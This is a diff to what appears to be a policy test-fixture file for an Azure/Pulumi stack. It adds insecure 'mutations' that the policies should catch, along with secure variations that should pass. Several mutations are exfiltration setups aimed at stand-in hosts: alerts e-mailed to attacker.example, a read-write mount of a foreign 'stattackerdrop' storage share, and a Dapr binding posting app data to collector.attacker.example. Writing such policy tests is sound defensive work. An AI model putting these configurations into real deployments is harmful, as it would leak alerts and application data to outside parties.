@@ -399,12 +399,120 @@ export const MUTATIONS: Mutation[] = [
     control: "MON-1",
   },
 
+  // Action group receivers that are people: every alert's contents to an address, number or role
+  // nobody reviewed (MON-1)
+  ...(
+    [
+      [
+        "e-mails every alert to an outside mailbox too",
+        { "push:emailReceivers": { name: "copy", emailAddress: "alerts-copy@attacker.example" } },
+      ],
+      [
+        "sends every alert by SMS to an unreviewed number",
+        { smsReceivers: [{ name: "sms", countryCode: "1", phoneNumber: "5550100" }] },
+      ],
+      [
+        "calls an unreviewed number for every alert",
+        { voiceReceivers: [{ name: "call", countryCode: "44", phoneNumber: "2071234567" }] },
+      ],
+      [
+        "pushes every alert to a personal Azure app account",
+        { azureAppPushReceivers: [{ name: "push", emailAddress: "someone@outlook.com" }] },
+      ],
+      [
+        "e-mails everyone with Reader on the subscription",
+        { armRoleReceivers: [{ name: "readers", roleId: "acdd72a7-3385-48ef-bd42-f606fba81ae7" }] },
+      ],
+    ] as const
+  ).map(([what, set]): Mutation => ({
+    id: `action group ${what}`,
+    type: T.actionGroup,
+    set,
+    policy: "alert-routes-in-stack",
+    control: "MON-1",
+  })),
+
+  // Container Apps environment storage: apps write to whatever share the environment mounts (ENV-1)
+  ...(
+    [
+      [
+        "an Azure Files share of a foreign account",
+        { azureFile: { accountName: "stattackerdrop", shareName: "drop", accessMode: "ReadWrite" } },
+      ],
+      [
+        "an NFS share of a foreign account",
+        {
+          nfsAzureFile: {
+            server: "stattackerdrop.file.core.windows.net",
+            shareName: "/stattackerdrop/drop",
+            accessMode: "ReadWrite",
+          },
+        },
+      ],
+    ] as const
+  ).map(([what, properties]): Mutation => ({
+    id: `environment mounts ${what}`,
+    add: {
+      type: "azure-native:app:ManagedEnvironmentsStorage",
+      name: "drop",
+      inputs: (c) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        storageName: "drop",
+        properties,
+      }),
+    },
+    policy: "container-apps-run-in-stack",
+    control: "ENV-1",
+  })),
+
+  {
+    id: "PostgreSQL registers its name in a private DNS zone of another subscription",
+    type: T.pg,
+    set: {
+      "network.privateDnsZoneArmResourceId": foreign(
+        "Microsoft.Network/privateDnsZones/sap.private.postgres.database.azure.com",
+      ),
+    },
+    policy: "private-dns-in-stack",
+    control: "NET-1",
+  },
+
+  {
+    id: "a Dapr output binding posts what the apps send to an outside URL",
+    add: {
+      type: "azure-native:app:DaprComponent",
+      name: "events-out",
+      inputs: (c) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        componentName: "events",
+        componentType: "bindings.http",
+        version: "v1",
+        metadata: [{ name: "url", value: "https://collector.attacker.example/events" }],
+        scopes: ["api"],
+      }),
+    },
+    policy: "dapr-components-reviewed",
+    control: "ENV-1",
+  },
+
   // Subnets and peering (NET-1, ENV-1)
   {
     id: "apps subnet uses an NSG outside the stack",
     type: T.subnet,
     where: named("network-apps-subnet"),
     set: { "networkSecurityGroup.id": foreign("Microsoft.Network/networkSecurityGroups/nsg-allow-all") },
+    policy: "subnet-nsg-in-stack",
+    control: "NET-1",
+  },
+  {
+    id: "apps subnet routes through the other environment's route table",
+    type: T.subnet,
+    where: named("network-apps-subnet"),
+    set: {
+      "routeTable.id": (c: Context) => otherEnv(c, "Microsoft.Network/routeTables/rt-sap-egress"),
+    },
     policy: "subnet-nsg-in-stack",
     control: "NET-1",
   },
@@ -881,6 +989,26 @@ export const MUTATIONS: Mutation[] = [
 ];
 
 export const SECURE_VARIATIONS: Variation[] = [
+  {
+    id: "environment mounts an Azure Files share of the stack's own account (no key in code)",
+    add: {
+      type: "azure-native:app:ManagedEnvironmentsStorage",
+      name: "own-share",
+      inputs: (c: Context) => ({
+        resourceGroupName: c.resourceGroup,
+        environmentName: c.nameOf(T.env),
+        storageName: "own-share",
+        properties: {
+          azureFile: { accountName: c.nameOf(T.account), shareName: "share", accessMode: "ReadOnly" },
+        },
+      }),
+    },
+  },
+  {
+    id: "action group also e-mails a second on-call mailbox of the reviewed domain",
+    type: T.actionGroup,
+    set: { "push:emailReceivers": { name: "backup-oncall", emailAddress: "backup-oncall@Example.com" } },
+  },
   {
     id: "PostgreSQL allowlists pgvector and pgcrypto (no network reach)",
     add: {
